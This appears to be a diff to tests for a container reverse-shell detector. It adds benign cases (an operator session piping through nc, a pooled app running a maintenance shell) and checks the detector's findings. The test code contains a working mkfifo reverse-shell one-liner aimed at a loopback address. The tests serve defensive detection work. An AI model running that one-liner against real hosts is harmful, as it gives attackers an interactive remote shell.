@@ -125,6 +125,10 @@ def test_fifo_pipeline_reverse_shell_and_a_port_check_next_to_a_shell(task_env: 
         # benign: a port check beside a shell reading a pipe
         task_env.run("worker", ["sh", "-c", f"echo 'sleep 1' | sh & /tmp/nc -z 127.0.0.9 {port}; wait"])
         srv.accept()[0].close()
+        # benign: an operator's session (a shell reading commands from a pipe, as `docker exec -i` gives it)
+        # talks to a service through nc from a subshell: the subshell reads and writes the session's own stdio
+        task_env.run("worker", ["sh"], stdin=f"(echo PING; sleep 2) | /tmp/nc 127.0.0.9 {port}\n", wait=False)
+        srv.accept()[0].close()
         pipeline = f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | /tmp/nc 127.0.0.9 {port} > /tmp/f"
         task_env.run("app", ["sh", "-c", pipeline], wait=False)
         conn, _ = srv.accept()
@@ -157,6 +161,14 @@ while data := s.recv(4096):
 sh.wait()
 """
 
+POOLED_APP = """
+import socket, subprocess, sys, time
+db = socket.create_connection(("127.0.0.9", int(sys.argv[1])))  # a pooled connection, made at start
+time.sleep(7)
+# later, a maintenance job: a script fed to sh over pipes
+subprocess.run(["/bin/sh"], input=b"sleep 2; echo done\\n", stdout=subprocess.PIPE, check=True)
+"""
+
 TERMINAL_SESSION = """
 import os, socket, subprocess, sys, time
 s = socket.create_connection(("127.0.0.9", int(sys.argv[1])))
@@ -173,6 +185,8 @@ def test_shell_pumped_by_a_client_and_a_terminal_session(task_env: TaskEnv, tmp_
     a shell a pty (ECS Exec, ssh) while holding a connection, and its `sh -c` commands, are not."""
     sidecar = task_env.start_detecting(tmp_path)
     with listener("127.0.0.9") as (srv, port):
+        task_env.run("worker", [PY, "-c", POOLED_APP, str(port)], wait=False)
+        pooled, _ = srv.accept()
         task_env.run("worker", [PY, "-c", TERMINAL_SESSION, str(port)], wait=False)
         benign, _ = srv.accept()
         time.sleep(4)
@@ -183,9 +197,12 @@ def test_shell_pumped_by_a_client_and_a_terminal_session(task_env: TaskEnv, tmp_
             conn.sendall(b"sleep 3\n")
             f = sidecar.wait_for_finding(lambda f: f["type"] == TYPE, timeout=20)
             conn.sendall(b"exit\n")
+        time.sleep(5)  # the pooled app's maintenance script has run
+        pooled.close()
     Finding.model_validate(f)
     assert f["service"]["runtimeDetails"]["process"]["executablePath"] in ("/bin/dash", "/usr/bin/dash")
     assert f["service"]["runtimeDetails"]["context"]["relayProcess"].startswith("python")
+    assert "pumps that connection" in f["description"]
     net = f["service"]["action"]["networkConnectionAction"]
     assert net["remoteIpDetails"]["ipAddressV4"] == "127.0.0.9" and net["remotePortDetails"]["port"] == port
     assert f["resource"]["ecsClusterDetails"]["taskDetails"]["containers"][0]["name"] == "app"
